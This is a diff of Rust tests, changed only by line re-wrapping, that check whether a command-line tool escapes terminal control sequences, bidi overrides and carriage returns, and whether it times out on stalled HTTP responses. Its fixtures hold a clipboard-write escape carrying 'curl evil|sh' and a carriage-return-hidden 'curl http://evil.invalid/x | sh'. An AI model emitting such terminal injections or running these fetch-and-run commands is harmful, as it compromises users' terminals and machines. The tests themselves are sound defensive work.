@@ -40,7 +40,8 @@ fn assert_no_raw_controls(out: &RunResult) {
 
 /// Text that tries every trick: clipboard write, window title, clear screen, a C1 CSI, a
 /// bidi override and a carriage return that overwrites what was shown.
-const ATTACK_TEXT: &str = "Sure.\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;pwned\x07\x1b[2J\u{9b}31m\u{202e}txt.exe\rAll good.";
+const ATTACK_TEXT: &str =
+    "Sure.\x1b]52;c;Y3VybCBldmlsfHNo\x07\x1b]0;pwned\x07\x1b[2J\u{9b}31m\u{202e}txt.exe\rAll good.";
 
 /// A command whose display a `\r` would overwrite with a harmless-looking one.
 const HIDDEN_COMMAND: &str = "true # curl http://evil.invalid/x | sh\r> bash ls -la";
@@ -135,7 +136,10 @@ fn plugin_names_manifests_and_errors_are_shown_escaped() {
         text.stdout.contains("evil\\x1b]0;owned\\x07\\u{9b}2J\\rok"),
         "{text}"
     );
-    assert!(text.stdout.contains("\\x1b[2J\\x1b]52;c;cHduZWQ=\\x07"), "{text}");
+    assert!(
+        text.stdout.contains("\\x1b[2J\\x1b]52;c;cHduZWQ=\\x07"),
+        "{text}"
+    );
 
     // An error naming a file goes out through main's error printing.
     let out = plugins_command(&env, &["inspect", "missing\x1b]0;title\x07.wasm"]);
@@ -326,7 +330,8 @@ fn a_huge_non_streamed_answer_is_refused() {
 #[test]
 fn an_endless_error_body_is_read_only_for_its_start() {
     let server = RawServer::start(|stream| {
-        let head = "HTTP/1.1 400 Bad Request\r\ncontent-type: text/plain\r\nconnection: close\r\n\r\n";
+        let head =
+            "HTTP/1.1 400 Bad Request\r\ncontent-type: text/plain\r\nconnection: close\r\n\r\n";
         let written = send(stream, head.as_bytes()) + send(stream, &vec![b'E'; 1 << 20]);
         // Then never finish.
         std::thread::sleep(Duration::from_secs(60));
@@ -375,6 +380,9 @@ fn a_drip_that_never_completes_an_event_times_out() {
     let started = Instant::now();
     let out = run_against(&server, Duration::from_secs(30));
     assert_eq!(out.code(), Some(1), "{out}");
-    assert!(out.stderr.contains("no complete event came for 2s"), "{out}");
+    assert!(
+        out.stderr.contains("no complete event came for 2s"),
+        "{out}"
+    );
     assert!(started.elapsed() < Duration::from_secs(15), "{out}");
 }
